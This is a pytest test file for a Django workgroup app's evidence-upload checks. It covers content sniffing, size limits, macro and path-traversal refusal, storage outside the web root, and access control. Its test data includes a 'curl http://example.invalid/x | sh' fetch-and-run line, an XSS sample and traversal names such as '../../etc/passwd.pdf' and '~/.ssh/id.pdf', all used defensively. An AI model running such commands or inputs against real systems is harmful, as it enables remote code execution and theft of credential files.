"""Evidence files: a script renamed .pdf, an oversize file and a path in the file name are refused with a
clear Persian message and nothing is stored; accepted files live outside the web root and are served only
to users who may see the resolution."""

import pytest
from django.conf import settings
from django.urls import reverse
from tests.web.workgroup.conftest import pdf_bytes, png_bytes, upload, xlsx_bytes

from saderat.web.workgroup import services, uploads
from saderat.web.workgroup.models import Attachment, ProgressUpdate

pytestmark = pytest.mark.django_db

SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def stored_files(root):
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def post_update(client, resolution, *files, text="گزارش با مستند"):
    return client.post(
        reverse("workgroup:resolution_update", args=[resolution.pk]),
        {"text": text, "status": "in_progress", "percent_done": "50", "files": list(files)},
    )


def test_pdf_image_and_spreadsheet_are_accepted_and_stored_outside_the_web_root(
    client, people, customs_resolution, evidence_home
):
    client.force_login(people["bob"])
    response = post_update(
        client,
        customs_resolution,
        upload("گزارش ترخیص.pdf", pdf_bytes()),
        upload("عکس.PNG", png_bytes(), "image/png"),
        upload("آمار.xlsx", xlsx_bytes(), "application/octet-stream"),
    )
    assert response.status_code == 302
    files = list(Attachment.objects.order_by("id"))
    assert [(f.original_name, f.content_type) for f in files] == [
        ("گزارش ترخیص.pdf", "application/pdf"),
        ("عکس.PNG", "image/png"),
        ("آمار.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ]
    on_disk = stored_files(evidence_home)
    assert len(on_disk) == 3
    for path in on_disk:
        assert path.resolve().is_relative_to(evidence_home.resolve())
        assert not path.resolve().is_relative_to(settings.STATIC_ROOT.resolve())
        assert "ترخیص" not in path.name  # random names on disk
    assert files[0].sha256 == __import__("hashlib").sha256(pdf_bytes()).hexdigest()


def test_a_script_renamed_pdf_is_refused_and_nothing_is_kept(
    client, people, customs_resolution, evidence_home
):
    client.force_login(people["bob"])
    response = post_update(client, customs_resolution, upload("گزارش.pdf", SCRIPT), text="متن گزارش حفظ شود")
    body = response.content.decode()
    assert response.status_code == 200
    assert "محتوای فایل «گزارش.pdf» با پسوند «.pdf» آن جور نیست" in body
    assert "متن گزارش حفظ شود" in body  # the text typed is not lost
    assert not ProgressUpdate.objects.exists() and not Attachment.objects.exists()
    assert stored_files(evidence_home) == []
    # One bad file among good ones refuses the whole update.
    post_update(client, customs_resolution, upload("a.pdf", pdf_bytes()), upload("b.docx", SCRIPT))
    assert not ProgressUpdate.objects.exists() and stored_files(evidence_home) == []


def test_an_image_named_pdf_and_an_executable_are_refused(evidence_home):
    with pytest.raises(uploads.UploadRefused) as err:
        uploads.store(upload("scan.pdf", png_bytes()))
    assert str(err.value).startswith("محتوای فایل «scan.pdf» با پسوند «.pdf» آن جور نیست (محتوا: PNG)")
    with pytest.raises(uploads.UploadRefused) as err:
        uploads.store(upload("setup.exe", b"MZ\x90\x00" + b"\x00" * 200))
    assert "پسوند فایل «setup.exe» پذیرفته نیست" in str(err.value)
    with pytest.raises(uploads.UploadRefused) as err:
        uploads.store(upload("page.html", b"<html><script>alert(1)</script></html>"))
    assert "پذیرفته نیست" in str(err.value)
    assert stored_files(evidence_home) == []


def test_an_oversize_file_is_refused(client, people, customs_resolution, evidence_home, settings):
    settings.SADERAT_EVIDENCE_MAX_BYTES = 2 * 1024 * 1024
    big = pdf_bytes() + b"%" + b"0" * (3 * 1024 * 1024)
    with pytest.raises(uploads.UploadRefused) as err:
        uploads.store(upload("بزرگ.pdf", big))
    assert str(err.value).startswith(
        "فایل «بزرگ.pdf» (۳ مگابایت) از سقف ۲ مگابایت برای هر فایل پیوست بزرگ‌تر است"
    )
    client.force_login(people["bob"])
    response = post_update(client, customs_resolution, upload("بزرگ.pdf", big))
    assert response.status_code == 200 and "از سقف ۲ مگابایت" in response.content.decode()
    assert not ProgressUpdate.objects.exists() and stored_files(evidence_home) == []


class Lying:
    """A file that claims to be small and is not (the size is counted again while writing)."""

    name = "small.pdf"
    size = 10

    def __init__(self, data):
        self.data = data

    def chunks(self):
        for i in range(0, len(self.data), 65536):
            yield self.data[i : i + 65536]


def test_a_file_larger_than_it_claims_is_refused(evidence_home, settings):
    settings.SADERAT_EVIDENCE_MAX_BYTES = 100_000
    with pytest.raises(uploads.UploadRefused):
        uploads.store(Lying(pdf_bytes() + b"0" * 200_000))
    assert stored_files(evidence_home) == []


@pytest.mark.parametrize(
    "name", ["../../etc/passwd.pdf", "..\\..\\boot.pdf", "/tmp/x.pdf", "C:evil.pdf", "..", "~/.ssh/id.pdf"]
)
def test_a_path_in_the_file_name_is_refused(name, people, customs_resolution, evidence_home):
    with pytest.raises(uploads.UploadRefused) as err:
        uploads.store(upload("x.pdf", pdf_bytes()), name=name)
    assert "مسیر پوشه دارد" in str(err.value) or "نام ندارد" in str(err.value)
    # Through the service, as the API and the pages call it: a Persian field error, nothing stored.
    from django.core.exceptions import ValidationError

    class Named:
        size = len(pdf_bytes())

        def __init__(self):
            self.name = name

        def chunks(self):
            yield pdf_bytes()

    with pytest.raises(ValidationError) as err:
        services.resolution_post_update(
            user=people["bob"], resolution=customs_resolution, text="x", files=[Named()]
        )
    assert "files" in err.value.message_dict
    assert stored_files(evidence_home) == [] and not ProgressUpdate.objects.exists()


def test_a_path_sent_by_a_browser_is_reduced_to_the_name(client, people, customs_resolution, evidence_home):
    """Django's upload parser keeps only the last part of the name; what is stored is still ours."""
    client.force_login(people["bob"])
    assert (
        post_update(
            client, customs_resolution, upload("../../../../etc/cron.d/x.pdf", pdf_bytes())
        ).status_code
        == 302
    )
    (attachment,) = Attachment.objects.all()
    assert attachment.original_name == "x.pdf"
    assert all(p.resolve().is_relative_to(evidence_home.resolve()) for p in stored_files(evidence_home))


def test_office_files_with_macros_are_refused(evidence_home):
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
        z.writestr("word/vbaProject.bin", b"\x00" * 10)
    with pytest.raises(uploads.UploadRefused) as err:
        uploads.store(upload("نامه.docx", buffer.getvalue()))
    assert "ماکرو" in str(err.value)
    # A zip of anything else, named .docx, is not a Word file.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("payload.sh", SCRIPT)
    with pytest.raises(uploads.UploadRefused) as err:
        uploads.store(upload("نامه.docx", buffer.getvalue()))
    assert "(محتوا: ZIP)" in str(err.value)
    assert stored_files(evidence_home) == []


def test_files_are_served_only_to_users_who_may_see_the_resolution(
    client, people, sara, customs_resolution, standards_resolution, evidence_home
):
    update = services.resolution_post_update(
        user=sara, resolution=standards_resolution, text="گواهی", files=[upload("گواهی.pdf", pdf_bytes())]
    )
    (attachment,) = update.files.all()
    url = reverse("workgroup:file", args=[attachment.pk])
    assert client.get(url).status_code == 302  # log in first
    client.force_login(people["bob"])  # customs: not his agency's resolution
    assert client.get(url).status_code == 403
    for name in ("alice", "carol"):
        client.force_login(people[name])
        response = client.get(url)
        assert response.status_code == 200, name
        assert b"".join(response.streaming_content) == pdf_bytes()
        assert response["Content-Type"] == "application/pdf"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response["Content-Security-Policy"]
    client.force_login(sara)
    assert client.get(url).status_code == 200
    # Nothing under the static or media URLs.
    assert client.get(f"/static/../evidence/{attachment.stored_name}").status_code == 404


def test_session_files_are_for_every_logged_in_user(client, people, session12, evidence_home):
    client.force_login(people["alice"])
    response = client.post(
        reverse("workgroup:session_files_add", args=[session12.pk]),
        {"files": [upload("صورت‌جلسه.pdf", pdf_bytes())]},
    )
    assert response.status_code == 302
    (attachment,) = session12.files.all()
    client.force_login(people["bob"])
    assert client.get(reverse("workgroup:file", args=[attachment.pk])).status_code == 200
    bad = client.post(
        reverse("workgroup:session_files_add", args=[session12.pk]), {"files": [upload("x.pdf", SCRIPT)]}
    )
    assert bad.status_code == 403 and session12.files.count() == 1
    client.force_login(people["alice"])
    response = client.post(
        reverse("workgroup:session_files_add", args=[session12.pk]),
        {"files": [upload("x.pdf", SCRIPT)]},
        follow=True,
    )
    assert "محتوای فایل «x.pdf»" in response.content.decode() and session12.files.count() == 1
